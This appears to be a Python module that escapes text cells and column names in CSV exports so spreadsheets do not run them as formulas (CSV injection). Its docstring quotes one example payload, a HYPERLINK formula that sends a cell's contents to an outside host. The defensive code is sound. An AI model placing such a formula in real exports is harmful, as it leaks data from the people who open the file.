"""Tables made safe to open in a spreadsheet (CSV formula injection, OWASP's advice).

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula: a reader name or class name like
`=HYPERLINK("http://host/?"&A1)` would run when a researcher opens the export. Every CSV
that PruneLens writes for people passes through `spreadsheet_safe`, which prefixes such text
with a single quote (shown by spreadsheets as text, the quote itself hidden).

Only text is touched: numbers stay numbers (−0.12 is a number, not a formula, and must stay
one for analysis), and so do booleans, dates and missing values. Column names are text and
are escaped the same way.
"""
from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` with a leading `'` when it is text a spreadsheet would run; anything else as is.

    Args:
        value (Any): a cell.

    Returns:
        Any: the cell, escaped when it is text starting a formula.

    Example:
        >>> safe_cell("=1+1"), safe_cell("Effusion"), safe_cell(3)
        ("'=1+1", 'Effusion', 3)
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def spreadsheet_safe(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of `df` whose text cells and column names cannot start a formula.

    Args:
        df (pd.DataFrame): the table (not changed).

    Returns:
        pd.DataFrame: the copy; numbers and NaN kept, categorical columns become text.
    """
    out = df.copy()
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if isinstance(col.dtype, pd.CategoricalDtype):
            col = col.astype(object)   # the CSV holds text either way
        if col.dtype == object or pd.api.types.is_string_dtype(col.dtype):
            # element-wise: an object column may mix numbers (kept) with text (escaped)
            out.isetitem(i, col.map(safe_cell, na_action="ignore"))
    out.columns = [safe_cell(c) for c in out.columns]
    return out
